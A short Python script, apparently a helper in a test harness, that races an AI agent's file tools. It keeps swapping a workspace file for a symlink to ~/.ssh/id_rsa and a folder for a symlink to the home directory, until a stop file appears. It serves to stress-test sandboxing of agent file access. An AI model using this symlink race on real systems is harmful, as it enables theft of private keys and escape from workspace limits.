"""Not a test: swaps what the agent's file tools are about to open, as fast as it can, until `race.stop` is there."""

import os
import time
from pathlib import Path

from attack import HERE, WORLD

ROOT = Path(WORLD.workspace)
LIMIT_S = 8


def main():
    fake = ROOT / "race"
    secret, home = Path(WORLD.home) / ".ssh" / "id_rsa", Path(WORLD.home)
    end, rounds = time.monotonic() + LIMIT_S, 0
    (HERE / "race.running").touch()
    while time.monotonic() < end and not (HERE / "race.stop").exists():
        rounds += 1
        time.sleep(0.002)  # as it was, for once: now and then the tools shall get through
        # 1. a file, and a link to a secret in its place
        swap(fake / "note.txt", lambda path: path.write_text("a note\n"))
        swap(fake / "note.txt", lambda path: path.symlink_to(secret))
        swap(fake / "note.txt", lambda path: path.write_text("a note\n"))
        # 2. a folder, and a link to the home in its place
        os.rename(fake / "folder", fake / "aside")
        (fake / "folder").symlink_to(home)
        os.unlink(fake / "folder")
        os.rename(fake / "aside", fake / "folder")
    (HERE / "race.rounds").write_text(str(rounds))


def swap(path, make):
    other = path.with_name(".swap")
    other.unlink(missing_ok=True)
    make(other)
    os.replace(other, path)


if __name__ == "__main__":
    main()
